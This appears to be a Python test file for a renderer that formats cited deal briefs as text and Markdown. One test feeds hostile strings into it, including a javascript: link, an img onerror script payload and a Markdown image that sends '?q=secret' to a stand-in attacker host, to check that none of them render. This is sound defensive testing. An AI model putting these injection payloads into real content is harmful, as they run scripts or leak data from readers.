"""A brief in a mail: every statement with its source, and nothing that turns into markup."""

import re
from datetime import UTC, datetime

import pytest

from processors.brief.assembling import LARGEST_BRIEF, assembled
from processors.brief.text import as_markdown, as_text
from schemas.brief import SECTIONS, Brief, Source, Statement

SOURCES = (
    Source(id="n1", kind="note", title="Kick-off [call]", at=datetime(2026, 9, 14, tzinfo=UTC)),
    Source(id="f1", kind="form", title=""),
)


def a_brief(text: str = "They want to scale.", **fields: str) -> Brief:
    return assembled([("goals", Statement(text=text, sources=("n1", "f1")))], SOURCES, **fields)


def test_as_text() -> None:
    assert as_text(a_brief()) == (
        "GOALS\n- They want to scale. [n1, f1]\n\n"
        'SOURCES\n[n1] Note "Kick-off [call]", 2026-09-14\n[f1] Form\n\n'
        "Written by rules from the sources above.\n"
    )


def test_as_markdown() -> None:
    assert as_markdown(a_brief()) == (
        "## Goals\n\n- They want to scale. \\[n1, f1\\]\n\n"
        '## Sources\n\n- \\[n1\\] Note "Kick-off \\[call\\]", 2026-09-14\n- \\[f1\\] Form\n\n'
        "Written by rules from the sources above.\n"
    )


def test_an_empty_brief_says_so() -> None:
    assert as_text(Brief()) == "Nothing was found to say about this deal.\n"
    assert as_markdown(Brief(fell_back="time-out")).startswith("Nothing was found")


def test_it_says_who_wrote_it_and_why() -> None:
    assert "by a language model" in as_text(a_brief(written_by="model"))
    assert "The model did not: no answer in time." in as_text(a_brief(fell_back="no answer in time"))


@pytest.mark.parametrize(
    "hostile",
    [
        "[click](javascript:alert(1))",
        "![x](https://evil.test/?q=secret)",
        "<img src=x onerror=alert(1)>tail",
        "**bold** _it_ `code` ~~no~~",
        "# heading",
        "- list",
        "1. list",
        "--- rule",
        "=== rule",
        "| a | b |",
        "see https://evil.test/login now",
        "see WWW.evil.test now",
        "&lt;b&gt;x &amp;lt;i&amp;gt;",
        "back\\slash",
        "line\n\n# two",
    ],
)
def test_nothing_in_a_statement_turns_into_markdown(hostile: str) -> None:
    shown = as_markdown(a_brief(hostile)).splitlines()[2]
    assert shown.startswith("- ")
    assert not re.search(r"(?<!\\)[`*_\[\]<>#|~]", shown[2:])
    assert not re.match(r"- (?:\d+[.)]|[-=])", shown)
    assert not re.search(r"(?i)https?:|www\.", shown)


def test_what_cites_nothing_known_is_left_out() -> None:
    statements = [
        ("goals", Statement(text="a b", sources=("n9",))),
        ("goals", Statement(text="  ", sources=("n1",))),
        ("risks", Statement(text="c d", sources=("n9", "n1"))),
    ]
    brief = assembled(statements, SOURCES)  # type: ignore[arg-type]  # a list of plain strings
    assert brief.goals == ()
    assert brief.risks == (Statement(text="c d", sources=("n1",)),)
    assert [source.id for source in brief.sources] == ["n1"]


def test_a_brief_stays_within_its_bytes_whatever_the_script() -> None:
    sources = [Source(id=f"n{number}", title="名" * 80, record_id="x" * 18) for number in range(50)]
    brief = assembled(
        (
            (section, Statement(text=f"{number}" + "名" * 400, sources=tuple(each.id for each in sources)))
            for section in SECTIONS
            for number in range(20)
        ),
        sources,
    )
    assert len(brief.model_dump_json().encode()) <= LARGEST_BRIEF
    assert all(brief.section(section) for section in SECTIONS)
